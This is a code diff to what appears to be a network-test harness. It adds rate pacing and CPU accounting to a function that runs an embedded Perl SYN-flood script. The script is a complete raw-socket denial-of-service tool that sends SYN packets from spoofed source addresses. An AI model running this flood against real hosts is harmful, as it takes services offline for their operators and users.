@@ -16,6 +16,8 @@ export interface SynFloodOptions {
   readonly count: number;
   /** ...and for at most this long. */
   readonly maxSeconds: number;
+  /** SYNs per second to pace the flood at (sent in bursts of 256); default: as fast as it can. */
+  readonly ratePerSec?: number;
 }
 
 export interface SynFloodResult {
@@ -23,22 +25,26 @@ export interface SynFloodResult {
   /** Sends the kernel refused for lack of buffer (the flood outran the link); not counted in `sent`. */
   readonly refused: number;
   readonly seconds: number;
+  /** CPU time the flood tool itself used (user + system), seconds. */
+  readonly cpuSeconds: number;
 }
 
 export async function synFlood(topology: Topology, host: string, opts: SynFloodOptions): Promise<SynFloodResult> {
   if (!Number.isInteger(opts.count) || opts.count < 1 || opts.count > 10_000_000) throw new Error(`synFlood: count ${opts.count} is not from 1 to 10000000`);
   if (!(opts.maxSeconds > 0 && opts.maxSeconds <= 120)) throw new Error(`synFlood: maxSeconds ${opts.maxSeconds} is not from 0 to 120`);
-  const r = await topology.exec(host, 'perl', ['-e', SYN_FLOOD_SCRIPT, opts.target.address, String(opts.target.port), String(opts.count), String(opts.maxSeconds), opts.sources], {
+  const rate = opts.ratePerSec ?? 0;
+  if (!(rate >= 0 && rate <= 10_000_000)) throw new Error(`synFlood: ratePerSec ${rate} is not from 0 to 10000000`);
+  const r = await topology.exec(host, 'perl', ['-e', SYN_FLOOD_SCRIPT, opts.target.address, String(opts.target.port), String(opts.count), String(opts.maxSeconds), opts.sources, String(rate)], {
     timeoutMs: (opts.maxSeconds + 30) * 1000,
   });
-  const m = /^sent (\d+) refused (\d+) seconds ([\d.]+)$/m.exec(r.stdout);
+  const m = /^sent (\d+) refused (\d+) seconds ([\d.]+) cpu ([\d.]+)$/m.exec(r.stdout);
   if (r.code !== 0 || m === null) throw new Error(`synFlood on ${host} failed (exit ${r.code}): ${r.stderr.trim() || r.stdout.trim()}`);
-  return { sent: Number(m[1]), refused: Number(m[2]), seconds: Number(m[3]) };
+  return { sent: Number(m[1]), refused: Number(m[2]), seconds: Number(m[3]), cpuSeconds: Number(m[4]) };
 }
 
-/** `perl -e SYN_FLOOD_SCRIPT DST PORT COUNT SECONDS SOURCE_BASE`: prints `sent N refused R seconds S`. */
+/** `perl -e SYN_FLOOD_SCRIPT DST PORT COUNT SECONDS SOURCE_BASE RATE`: prints `sent N refused R seconds S cpu C`. */
 const SYN_FLOOD_SCRIPT = String.raw`use strict; use Socket qw(inet_aton sockaddr_in AF_INET SOCK_RAW); use Time::HiRes qw(time);
-my ($dst, $dport, $count, $seconds, $base) = @ARGV;
+my ($dst, $dport, $count, $seconds, $base, $rate) = @ARGV;
 socket(my $s, AF_INET, SOCK_RAW, 255) or die "raw socket: $!\n";
 my $daddr = inet_aton($dst) or die "not an IPv4 address: $dst\n";
 my $first = unpack('N', inet_aton($base));
@@ -46,7 +52,11 @@ my $to = sockaddr_in(0, $daddr);
 my $start = time; my $deadline = $start + $seconds; my ($sent, $refused, $i) = (0, 0, 0);
 sub csum { my $sum = 0; $sum += $_ for unpack('n*', $_[0]); $sum = ($sum >> 16) + ($sum & 0xffff) while $sum >> 16; return ~$sum & 0xffff; }
 while ($sent < $count) {
-  last if ($i & 255) == 0 && time > $deadline;
+  if (($i & 255) == 0) {
+    my $now = time;
+    last if $now > $deadline;
+    if ($rate > 0) { my $wait = $start + $i / $rate - $now; select(undef, undef, undef, $wait) if $wait > 0; }
+  }
   my $src = pack('N', $first + ($i & 4095));
   my $sport = 1024 + (($i >> 12) * 7 + $i) % 64000;
   # data offset 5 words, SYN; window 64240
@@ -57,5 +67,6 @@ while ($sent < $count) {
   $i++;
   if (send($s, $ip . $tcp, 0, $to)) { $sent++ } elsif ($!{ENOBUFS} || $!{EAGAIN}) { $refused++ } else { die "send: $!\n" }
 }
-printf "sent %d refused %d seconds %.3f\n", $sent, $refused, time - $start;
+my ($user, $system) = times;
+printf "sent %d refused %d seconds %.3f cpu %.3f\n", $sent, $refused, time - $start, $user + $system;
 `;
